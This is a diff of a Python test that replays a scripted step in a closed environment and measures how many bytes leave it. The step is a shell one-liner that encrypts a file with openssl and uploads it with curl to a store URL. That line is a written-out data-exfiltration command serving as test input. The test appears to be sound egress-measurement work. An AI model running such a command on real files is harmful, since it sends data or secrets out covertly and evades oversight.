@@ -161,7 +161,7 @@ def test_a_replay_in_a_closed_world_counts_what_leaves_it() -> None:
 
     async def main(url: str) -> list[int]:
         script = f"openssl enc -aes-256-ctr -k x -pbkdf2 -in {cargo.path} | curl -sST - {url}"
-        found = await replay("namespace", cargo, [Step(("bash", "-c", script))], 0)
+        found = (await replay("namespace", cargo, [Step(("bash", "-c", script))], 0))["weights"]
         return [arm.bytes_out for arm in found.arms]
 
     full, half, sliver, other = anyio.run(main, f"http://{STORE}/r")
